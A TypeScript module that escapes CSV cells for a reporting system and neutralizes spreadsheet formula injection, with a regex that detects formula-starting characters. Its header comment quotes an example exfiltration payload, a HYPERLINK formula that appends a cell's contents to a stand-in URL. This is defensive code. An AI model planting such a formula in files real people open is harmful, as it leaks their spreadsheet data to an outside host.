// One CSV cell as every CSV the reporting half writes it (report files and the on-demand reports): RFC 4180
// quoting, and text a spreadsheet would run as a formula neutralized. A merchant's data reaches these files from
// outside (imported transactions, names typed by buyers), and a cell such as `=HYPERLINK("http://x/?"&A1,"y")`
// opened in Excel, LibreOffice or Google Sheets is a live formula. As OWASP's "CSV Injection" page describes, a
// cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which spreadsheets read as
// "text follows" and do not show. Pure.

/** The first characters that make a spreadsheet read a cell as a formula (OWASP's list). */
const FORMULA_START = /^[=+\-@\t\r]/
/**
 * A plain decimal number, sign included (`-12.50`, `+15551234567`): a spreadsheet reads it as a number, never as a
 * formula, so it stays as it is and amounts keep their sign. Anything more (an exponent, a space, a second
 * sign, `-1+2`) is not a plain number and is neutralized.
 */
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/
/** Apostrophes, then a formula start: what neutralize() prefixes and recoverFormula() unprefixes. */
const NEUTRALIZED = /^'+[=+\-@\t\r]/

/**
 * The text with a leading `'` when a spreadsheet would run it as a formula. A value that already starts with
 * apostrophes before such a character gets one more too, so the original is always recoverable: a reader removes
 * the first `'` of a cell made of apostrophes then one of `= + - @ tab CR` (see recoverFormula), and nothing else.
 */
export function neutralizeFormula(text: string): string {
  if (FORMULA_START.test(text)) return PLAIN_NUMBER.test(text) ? text : `'${text}`
  return NEUTRALIZED.test(text) ? `'${text}` : text
}

/** The inverse of neutralizeFormula: the value as it was stored (a plain number is never prefixed). */
export function recoverFormula(cell: string): string {
  return NEUTRALIZED.test(cell) ? cell.slice(1) : cell
}

/** What needs quoting. */
const QUOTED = /[",\r\n]/

/** One CSV cell: neutralized, then quoted when it holds a comma, quote, CR or LF, quotes doubled; absent is empty. */
export function csvCell(value: string | number | null | undefined): string {
  if (value === undefined || value === null) return ''
  // Most cells (a report writes millions) start with none of `= + - @ tab CR '` and need no quotes: as they are.
  if (typeof value === 'string') {
    const c = value.charCodeAt(0)
    if (c !== 61 && c !== 43 && c !== 45 && c !== 64 && c !== 9 && c !== 13 && c !== 39 && !QUOTED.test(value)) return value
  }
  const text = neutralizeFormula(String(value))
  return QUOTED.test(text) ? `"${text.replaceAll('"', '""')}"` : text
}
